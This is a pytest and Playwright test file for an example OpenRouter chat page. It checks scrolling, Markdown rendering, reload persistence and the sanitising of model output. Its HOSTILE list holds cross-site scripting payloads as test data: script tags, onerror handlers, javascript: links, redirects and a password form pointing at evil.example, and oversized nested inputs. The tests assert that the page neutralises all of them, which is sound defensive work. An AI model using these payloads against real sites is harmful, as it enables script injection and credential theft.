"""The example's chat page: what is in view, Markdown, and what a reload keeps."""

from __future__ import annotations

import time

import pytest

from langchain_openrouter.testing import Reply
from langchain_openrouter.web.example.app import create_app
from tests.support.chat_page import ask, people, shot, sign_in
from tests.support.webapp import SECRET, in_thread


@pytest.fixture
def site(emulate):
    """Serve the example; its address, and the emulator."""
    emulator = emulate(any_key=False)
    with in_thread(create_app(secret=SECRET, base_url=emulator.url)) as url:
        yield url, emulator


@pytest.fixture
def person(browser, site):
    """Make people."""
    with people(browser, site[0]) as make:
        yield make


def problems(page):
    """Return what a page complained of, but an icon that the emulator's page does not have."""
    return [text for text in page.complaints if "404" not in text]


MARKDOWN = """# Sky

It is **blue** by *Rayleigh* scattering, `I ~ 1/λ⁴`; see [the article](https://example.org/sky_(air)),
or https://example.org/bare.

1. Light comes in
   - short waves scatter
   - long ones do not
2. You look up

| color | nm |
|---|---|
| blue | 450 |
| red | 700 |

> Quoted, and ~~wrong~~ right.

```python
def sky(hour):
    return "blue" if 6 < hour < 20 else "<b>dark</b>"
```

snake_case_names and 2 * 3 * 4 stay as they are. A last line."""
SIZES = {"desktop": {"width": 1280, "height": 800}, "phone": {"width": 390, "height": 780}, "low": {"width": 390, "height": 420}}  # fmt: skip
VISIBLE = """item => {
  item = item.lastElementChild ?? item;
  const box = item.getBoundingClientRect(), top = document.querySelector("#ask").getBoundingClientRect().top;
  const seen = document.elementFromPoint(box.left + 8, box.bottom - 4);
  return box.bottom <= Math.min(top, innerHeight) + 0.5 && Boolean(seen) && item.parentElement.contains(seen);
}"""


def becomes_visible(locator):
    """Tell whether it is visible, or is in the next frames: a busy machine draws few."""
    end = time.monotonic() + 10
    while not locator.evaluate(VISIBLE):
        if time.monotonic() > end:
            return False
        locator.page.wait_for_timeout(20)
    return True


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", SIZES)
def test_the_newest_line_is_never_behind_the_input_box(site, person, size, scheme):
    """While it comes, when it is there, with a tall question, after a reload; unless one scrolls up."""
    _, emulator = site
    page = person(viewport=SIZES[size], color_scheme=scheme)
    shot(page, f"stranger-{size}-{scheme}")
    sign_in(page, "user_ann")
    page.locator("#ask").wait_for()
    shot(page, f"empty-{size}-{scheme}")
    text = MARKDOWN + "\n\n" + "More words. " * 60 + "\n\n" + MARKDOWN
    emulator.script(lambda _: Reply(text, pause=0.001, reasoning="I look at the sky. " * 9))
    page.get_by_label("Your message").fill("Why is the sky blue?")
    page.keyboard.press("Enter")
    page.locator("li.assistant h3").first.wait_for()
    assert becomes_visible(page.locator("li.assistant .answer").last)
    page.locator("li.assistant .told").last.wait_for(state="attached")
    assert becomes_visible(page.locator(".told").last)
    shot(page, f"answer-{size}-{scheme}")
    page.get_by_label("Your message").fill("line\n" * 12)
    page.wait_for_timeout(100)
    assert becomes_visible(page.locator(".told").last)
    page.get_by_label("Your message").fill("")
    page.reload()
    page.locator(".told").last.wait_for()
    assert becomes_visible(page.locator(".told").last)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")

    page.locator("main").evaluate("main => { main.scrollTop = 0; }")
    page.wait_for_timeout(100)
    page.set_viewport_size({**SIZES[size], "height": SIZES[size]["height"] - 20})
    page.wait_for_timeout(100)
    assert page.locator("main").evaluate("main => main.scrollTop") == 0
    shot(page, f"top-{size}-{scheme}")
    assert not problems(page)


def test_markdown_is_rendered(site, person):
    """Headings, lists in lists, tables, code, quotes, links that open elsewhere."""
    _, emulator = site
    emulator.script(lambda _: MARKDOWN)
    page = person()
    sign_in(page, "user_ann")
    page.locator("#ask").wait_for()
    answer = ask(page, "Why?").locator(".answer")

    html = answer.inner_html()
    for part in ("<h3>Sky</h3>", "<strong>blue</strong>", "<em>Rayleigh</em>", "<code>I ~ 1/λ⁴</code>",
                 "<th>color</th><th>nm</th>", "<td>red</td><td>700</td>", "<del>wrong</del>",
                 "<ol><li>Light comes in<ul><li>short waves scatter</li><li>long ones do not</li></ul></li>",
                 '<code data-language="python">def sky(hour):\n    return "blue" if 6 &lt; hour',
                 "snake_case_names and 2 * 3 * 4 stay"):  # fmt: skip
        assert part in html
    links = answer.locator("a")
    assert [links.nth(n).get_attribute("href") for n in range(2)] == [
        "https://example.org/sky_(air)", "https://example.org/bare",
    ]  # fmt: skip
    assert links.first.get_attribute("rel") == "noopener noreferrer nofollow"


HOSTILE = [
    "<script>document.title = 'hacked'</script>",
    "<img src=x onerror=\"document.title = 'hacked'\">",
    "[x](javascript:document.title='hacked')",
    "[x](JaVaScRiPt:document.title='hacked') [y](data:text/html,<script>1</script>)",
    "[x](https://ok.example\"onmouseover=\"document.title='hacked')",
    "![pixel](https://evil.example/pixel.png?secret)",
    "```html\"><script>document.title = 'hacked'</script>\n<b>\n```",
    "`<b>` **<i>x</i>** <iframe src='javascript:1'></iframe> <svg/onload=alert(1)>",
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](vbscript:1) |",
    "> " * 300 + "deep <b>quote</b>",
    "".join("  " * n + "- deep <b>list</b>\n" for n in range(60)),
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form><style>*{display:none}</style>",
    "**a" * 20000 + "`b" * 5000 + "[" * 5000 + "_c" * 5000,
    "\u202e\u0000\ud800 &lt;script&gt; \\<b\\>",
]  # fmt: skip


def test_a_models_html_is_text(site, person):
    """No element, handler, address or request that Markdown does not have."""
    _, emulator = site
    page = person()
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    sign_in(page, "user_ann")
    page.locator("#ask").wait_for()
    emulator.script([text.encode("utf-8", "replace").decode() for text in HOSTILE])
    for text in HOSTILE:
        answer = ask(page, "x").locator(".answer")
        if "<b" in text or "<img" in text:
            assert "<" in answer.inner_text()
    page.reload()
    page.locator(".told").last.wait_for()
    names = set(page.locator(".answer *").evaluate_all("all => all.map(e => e.localName)"))
    attributes = set(page.locator(".answer *").evaluate_all("all => all.flatMap(e => e.getAttributeNames())"))  # fmt: skip
    addresses = page.locator(".answer a").evaluate_all("all => all.map(a => a.protocol)")

    allowed = {"p", "a", "code", "pre", "strong", "em", "del", "div", "table", "thead", "tbody", "tr", "th", "td",
               "blockquote", "ul", "ol", "li", "hr", "h3", "h4", "h5", "h6"}  # fmt: skip
    assert names <= allowed
    assert attributes <= {"href", "target", "rel", "class", "data-language", "tabindex", "start"}
    assert set(addresses) <= {"http:", "https:", "mailto:"}
    assert page.title() == "Chat on your own OpenRouter account"
    assert not [url for url in requests if "evil" in url]
    assert not problems(page)


def test_a_conversation_survives_a_reload_and_stays_the_visitors(site, person):
    """It goes on after a reload, without a key; a sign-out or another visitor ends it."""
    _, emulator = site
    emulator.script(lambda request: f"Answer {len(request.body['messages'])}")
    page = person()
    sign_in(page, "user_ann")
    page.locator("#ask").wait_for()
    page.locator("#model option").first.wait_for(state="attached")
    page.locator("#model").select_option("anthropic/claude-sonnet-4.6")
    assert "Answer 1" in ask(page, "my first question").inner_text()
    page.reload()
    page.get_by_text("Answer 1").wait_for()
    assert "Answer 3" in ask(page, "and the second").inner_text()
    assert [m["content"] for m in emulator.chats[-1].body["messages"]] == [
        "my first question", "Answer 1", "and the second",
    ]  # fmt: skip
    assert emulator.chats[-1].body["model"] == "anthropic/claude-sonnet-4.6"
    stored = page.evaluate(
        "JSON.stringify([{...sessionStorage}, {...localStorage}, document.cookie])"
    )
    assert "my first question" in stored
    assert "sk-or" not in stored
    assert not any(key in stored or key[-8:] in stored for key in emulator.accounts.keys)

    page.goto(f"{site[0]}/auth/sign-in?next=/")  # somebody else, in the same tab
    page.locator("input[name=emulated_user]").fill("user_bob")
    page.get_by_role("button", name="Approve").click()
    page.locator("#empty").wait_for()
    assert "my first question" not in page.locator("body").inner_text()
    page.goto(f"{site[0]}/auth/sign-in?next=/")
    page.locator("input[name=emulated_user]").fill("user_ann")
    page.get_by_role("button", name="Approve").click()
    page.get_by_text("my first question").wait_for()
    page.get_by_role("button", name="New chat").click()
    page.reload()
    page.locator("#empty").wait_for()
    ask(page, "a third question")
    page.get_by_role("button", name="Sign out").click()
    page.get_by_text("You are signed out").wait_for()
    assert "third" not in page.evaluate("JSON.stringify({...sessionStorage})")


def test_a_reload_in_mid_answer_keeps_what_came(site, person):
    """It says that it was interrupted, and the conversation goes on."""
    _, emulator = site
    page = person()
    sign_in(page, "user_ann")
    page.locator("#ask").wait_for()
    emulator.script(lambda _: Reply("word " * 2000, pause=0.02))
    page.get_by_label("Your message").fill("go on")
    page.keyboard.press("Enter")
    page.locator("li.assistant", has_text="word word").wait_for()
    page.reload()
    page.get_by_text("interrupted").wait_for()
    assert "word word" in page.locator("li.assistant").inner_text()
    emulator.script(["Fine."])
    assert "Fine." in ask(page, "again").inner_text()
